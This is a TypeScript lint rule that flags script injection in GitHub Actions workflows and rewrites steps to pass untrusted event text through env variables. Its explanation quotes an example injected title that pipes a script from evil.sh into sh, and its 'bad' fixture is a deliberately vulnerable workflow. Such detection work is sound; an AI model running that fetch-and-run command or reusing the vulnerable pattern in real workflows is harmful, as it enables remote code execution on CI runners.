import { codeInputs, outsiderEvent } from '../../data/contexts.js'
import type { Edit, Field, Job, Place, Problem, Step, Text, Workflow } from '../../model.js'
import {
  conditionOf,
  contextPath,
  type Expression,
  expressionsIn,
  type Node,
  operandsOf,
  truthOf,
  walk
} from '../../parse/expression.js'
import { readUses } from '../../parse/uses.js'
import { rule } from '../../rule.js'

export default rule({
  id: 'workflow/script-injection',
  title: 'Text that outsiders write is run as code',
  why: '`${{ }}` is pasted into a script before its shell reads it, so a title such as `"; curl evil.sh | sh; "` is a command.',
  fix: 'Put the value into `env:` and let the script read the variable, quoted: `"$TITLE"`.',
  severity: 'error',
  topic: 'security',
  preset: 'recommended',
  edits: 'suggested',
  over: 'workflow',
  peers: { actionlint: 'expression', zizmor: 'template-injection', poutine: 'injection' },

  *check(workflow) {
    if (!workflow.triggers.some(trigger => outsiderEvent(trigger.event.value) || isCalled(trigger.event.value))) return
    for (const job of workflow.jobs)
      for (const step of job.steps) {
        const sinks = sinksOf(step).filter(sink => sink.text.value.includes('${{') && NAMED.test(sink.text.value))
        if (sinks.length) yield* injections(sinks, { workflow, job, step, conditions: conditionsOf(job, step) })
      }
  },

  bad: {
    '.github/workflows/triage.yml': `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - run: echo "Thanks for \${{ github.event.issue.title }}"
`
  },
  good: {
    '.github/workflows/triage.yml': `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "Thanks for $TITLE"
`
  }
})

interface Where {
  workflow: Workflow
  job: Job
  step: Step
  /** Those of job and step, where they decide anything. */
  conditions: Node[]
}
/** Code that is made of a text: a script, or an input that an action runs. */
interface Sink {
  text: Text
  what: string
}
/** An expression in code, the outsider's field it brings there, and the variable it came through. */
interface Flow {
  sink: Sink
  expression: Expression
  path: string
  events: string[]
  through?: Field
}

const isCalled = (event: string) => event === 'workflow_call'

/** More expressions in one script are no script of anyone's. */
const MAX_EXPRESSIONS = 200

function* injections(sinks: Sink[], where: Where): Iterable<Problem> {
  const flows = sinks.flatMap(sink => flowsInto(sink, where))
  const edits = editsOf(flows, where)
  for (const [at, { sink, expression, path, events, through }] of flows.entries()) {
    const by = through ? ` (through env ${through.name.value}, line ${through.name.at.line})` : ''
    const privileged = events.some(event => outsiderEvent(event)?.privileged)
    yield {
      at: expression.at,
      message: `${path}${by} becomes part of ${sink.what}, and outsiders write it: ${reasonOf(events)}`,
      ...(!privileged && { severity: 'warning' as const }),
      // All of a step is mended together: two edits would both add the variables.
      ...(at === 0 && edits && { edits })
    }
  }
}

function reasonOf(events: string[]): string {
  const privileged = events.filter(event => outsiderEvent(event)?.privileged)
  if (privileged.length) return `on ${privileged.join(', ')} the job has secrets and a token of its own`
  const [event] = events
  if (events.every(isCalled)) return 'callers may run on pull requests and issues'
  return event?.startsWith('pull_request')
    ? `on ${event} it is a fork's to choose`
    : `on ${event} it comes from what was merged`
}

function sinksOf(step: Step): Sink[] {
  if (step.run) return [{ text: step.run.text, what: SCRIPTS[step.run.shell.name] }]
  const uses = step.uses && readUses(step.uses.value)
  const code = uses && 'action' in uses ? codeInputs(uses.action) : undefined
  return step.with
    .filter(field => code?.inputs.includes(field.name.value.toLowerCase()))
    .map(field => ({ text: field.value, what: `the ${code!.language} of ${field.name.value}` }))
}
const SCRIPTS = {
  bash: 'a shell script',
  sh: 'a shell script',
  pwsh: 'a PowerShell script',
  cmd: 'a batch script',
  python: 'a Python program',
  node: 'a JavaScript program',
  other: 'a script'
}

// What every way to an outsider's text names; other expressions need no parsing.
const NAMED = /event|head_ref|env|tojson/i

function flowsInto(sink: Sink, where: Where): Flow[] {
  const flows: Flow[] = []
  for (const expression of expressionsIn(sink.text).slice(0, MAX_EXPRESSIONS)) {
    if (!NAMED.test(sink.text.value.slice(expression.from, expression.to))) continue
    const found = expression.root && fieldIn(expression.root, where)
    if (found) flows.push({ sink, expression, ...found })
  }
  return flows
}

/** The first outsider's field whose text an expression passes on, directly or through a variable of `env:`. */
function fieldIn(root: Node, where: Where): Pick<Flow, 'path' | 'events' | 'through'> | undefined {
  for (const { path, json } of passedBy(root)) {
    const events = eventsFor(path, json, where)
    if (events.length) return { path, events }
    const through = path.startsWith('env.') ? variable(path.slice(4), where) : undefined
    if (!through) continue
    for (const { root: inner } of expressionsIn(through.value))
      for (const passed of inner ? passedBy(inner) : []) {
        const events = eventsFor(passed.path, passed.json, where)
        if (events.length) return { path: passed.path, events, through }
      }
  }
  return undefined
}

/** The variable that `env.name` reads in a step. */
function variable(name: string, { workflow, job, step }: Where): Field | undefined {
  for (const fields of [step.env, job.env, workflow.env]) {
    const field = fields.find(({ name: own }) => own.value.toLowerCase() === name)
    if (field) return field
  }
  return undefined
}

/**
 * Context paths whose text ends up in the value of an expression. Comparisons, `!`, contains and the like give true or
 * false, and of `a && b` only b is ever text that matters. `json`: what lies below the path comes along.
 */
function* passedBy(node: Node, json = false): Iterable<{ path: string; json: boolean }> {
  const path = contextPath(node)
  if (path !== undefined) {
    yield { path, json }
    return
  }
  if (node.type === 'binary') {
    if (node.operator === '||') for (const operand of operandsOf(node)) yield* passedBy(operand, json)
    if (node.operator === '&&') yield* passedBy(node.right, json)
  }
  if (node.type === 'call') {
    const name = node.name.toLowerCase()
    const whole = json || name === 'tojson' || name === 'join'
    if (name === 'case')
      for (const [at, arg] of node.args.entries()) if (at % 2 || at === node.args.length - 1) yield* passedBy(arg, json)
    if (PASSING.has(name)) for (const arg of node.args) yield* passedBy(arg, whole)
  }
  // Members of what a call gives, as in fromJSON(toJSON(github.event)).issue.title.
  if (node.type === 'property' || node.type === 'index' || node.type === 'star') yield* passedBy(node.object, json)
}
const PASSING = new Set(['format', 'join', 'tojson', 'fromjson'])

/** Events of the workflow in whose runs a path holds an outsider's text, as far as conditions of job and step let them through. */
function eventsFor(path: string, json: boolean, where: Where): string[] {
  if (!path.startsWith('github.') && path !== 'github') return []
  const triggers = where.workflow.triggers.map(trigger => trigger.event.value)
  // What starts the callers of a reusable workflow is not known here: any of the usual events may.
  const anywhere = triggers.some(isCalled) ? CALLERS.flatMap(event => outsiderEvent(event)?.fields ?? []) : []
  return triggers.filter(event => {
    const fields = isCalled(event) ? anywhere : (outsiderEvent(event)?.fields ?? [])
    return fields.some(field => holds(path, field, json)) && !isGuarded(path, event, where.conditions)
  })
}
const CALLERS = ['pull_request', 'pull_request_target', 'issues', 'issue_comment', 'discussion_comment', 'workflow_run']

function holds(path: string, field: string, json: boolean): boolean {
  const names = path.split('.')
  const wanted = field.split('.')
  // A whole object or list is text only where something turns it into text.
  if (names.length > wanted.length || (!json && (names.length < wanted.length || names.includes('*')))) return false
  return names.every((name, at) => name === wanted[at] || name === '*' || (wanted[at] === '*' && /^\d+$/.test(name)))
}

function conditionsOf(job: Job, step: Step): Node[] {
  return [job.if, step.if].flatMap(condition => {
    if (!condition) return []
    const [only] = conditionOf(condition)
    // Text beside a fence, a line break at its end included, makes the whole a text that is always true.
    const isWhole = only?.root && only.from === 0 && only.to === condition.value.length
    return isWhole ? only.root! : []
  })
}

/** Do the conditions keep outsiders' runs of an event away from the step? */
function isGuarded(path: string, event: string, conditions: Node[]): boolean {
  // A called workflow sees its caller's event, which is not known.
  const values = isCalled(event) ? {} : { github: { event_name: event } }
  return conditions.some(condition => {
    if (truthOf(condition, values) === false) return true
    const isAnd = condition.type === 'binary' && condition.operator === '&&'
    return (isAnd ? operandsOf(condition) : [condition]).some(node => keepsOut(node, path))
  })
}

/** A condition that holds for no fork, or only for people whom the repository knows. */
function keepsOut(node: Node, path: string): boolean {
  const paths = [...walk(node)].flatMap(inner => contextPath(inner) ?? [])
  const fromHere = node.type === 'binary' && node.operator === '=='
  if (
    fromHere &&
    paths.some(name => name.endsWith('.head.repo.full_name') || name.endsWith('.head_repository.full_name'))
  )
    return paths.includes('github.repository') || paths.includes('github.event.repository.full_name')
  if (node.type === 'not' && paths.some(name => name.endsWith('.head.repo.fork'))) return true
  const members = fromHere || (node.type === 'call' && node.name.toLowerCase() === 'contains')
  return members && paths.some(name => name.endsWith('.author_association') && path.startsWith(name.slice(0, -18)))
}

// ---------------------------------------------------------------- the edit

/** Moves what flows into a step's script to `env:`, for shells and YAML where that can be done without guessing. */
function editsOf(flows: Flow[], where: Where): Edit[] | undefined {
  const { step, job, workflow } = where
  const { run, yaml } = step
  const entry = yaml.entry('run')
  const written = entry?.value
  if (!flows.length || !run || !entry || written?.kind !== 'scalar') return undefined
  // In quotes ours would need escapes; a flow map cannot hold an expression that is not quoted.
  if (written.style === 'single' || written.style === 'double') return undefined
  const names = new Map<string, string>()
  const taken = new Set([...step.env, ...job.env, ...workflow.env].map(field => field.name.value))
  const edits: Edit[] = []
  for (const { expression, path, through } of flows) {
    const inner = run.text.value.slice(expression.from + 3, expression.to - 2).trim()
    if (!through && !/^[\w.[\]'()|&, {}*-]+$/.test(inner)) return undefined
    if (through && inner.toLowerCase() !== `env.${through.name.value.toLowerCase()}`) return undefined
    const name = through?.name.value ?? names.get(inner) ?? free(path, taken)
    if (!through) names.set(inner, name)
    taken.add(name)
    if (written.style === 'plain' && expression.from === 0) return undefined
    const text = reference(name, run.shell.name, run.text.value.slice(0, expression.from))
    if (text === undefined) return undefined
    edits.push({ at: expression.at, text })
  }
  const rows = [...names].map(([inner, name]) => `${name}: \${{ ${inner} }}`)
  if (rows.length) {
    const before = insertion(step, rows)
    if (!before) return undefined
    edits.unshift(before)
  }
  return edits
}

function insertion({ yaml }: Step, rows: string[]): Edit | undefined {
  const own = yaml.entry('env')
  const lines = (column: number) => rows.map(row => `${row}\n${' '.repeat(column - 1)}`)
  if (!own) {
    const at = yaml.entry('run')!.key.at
    const indent = ' '.repeat(at.column + 1)
    return {
      at: startOf(at),
      text: `env:\n${indent}${lines(at.column + 2)
        .join('')
        .trimEnd()}\n${' '.repeat(at.column - 1)}`
    }
  }
  const [first] = own.value.kind === 'map' ? own.value.entries : []
  if (!first || own.value.anchor || first.key.at.line === own.key.at.line) return undefined
  return { at: startOf(first.key.at), text: lines(first.key.at.column).join('') }
}

const startOf = (at: Place): Place => ({ ...at, endLine: at.line, endColumn: at.column })

function free(path: string, taken: Set<string>): string {
  const base = path
    .replace(/^github\.(event\.)?/, '')
    .replace(/[^a-z0-9]+/g, '_')
    .toUpperCase()
  let name = base
  for (let count = 2; taken.has(name); count++) name = `${base}_${count}`
  return name
}

/** How a script reads a variable at a place, quoted; undefined where what stands before leaves that open. */
function reference(name: string, shell: string, before: string): string | undefined {
  if (shell === 'pwsh')
    return inQuotes(before, '`') === '"' ? `$($env:${name})` : inQuotes(before, '`') === '' ? `$env:${name}` : undefined
  if (shell !== 'bash' && shell !== 'sh') return undefined
  const quote = inQuotes(before, '\\')
  if (quote === '"') return `\${${name}}`
  if (quote === "'") return `'"\${${name}}"'`
  return quote === '' ? `"\${${name}}"` : undefined
}

/** The quote that is open at the end of a script; undefined where heredocs, substitutions or backquotes make that a matter of parsing. */
function inQuotes(script: string, escaper: string): '' | "'" | '"' | undefined {
  let quote: '' | "'" | '"' = ''
  for (let at = 0; at < script.length; at++) {
    const char = script[at]!
    if (quote !== "'" && char === escaper) at++
    else if (char === quote) quote = ''
    else if (quote === "'") continue
    else if (char === '`' || (char === '$' && (script[at + 1] === '(' || script[at + 1] === "'"))) return undefined
    else if (quote === '"') continue
    else if (char === '"' || char === "'") quote = char
    else if (char === '<' && script[at + 1] === '<') return undefined
    else if (char === '#' && /^\s?$/.test(script[at - 1] ?? '')) {
      const end = script.indexOf('\n', at)
      // In a comment nothing is quoted, and nothing needs to be.
      if (end < 0) return undefined
      at = end
    }
  }
  return quote
}
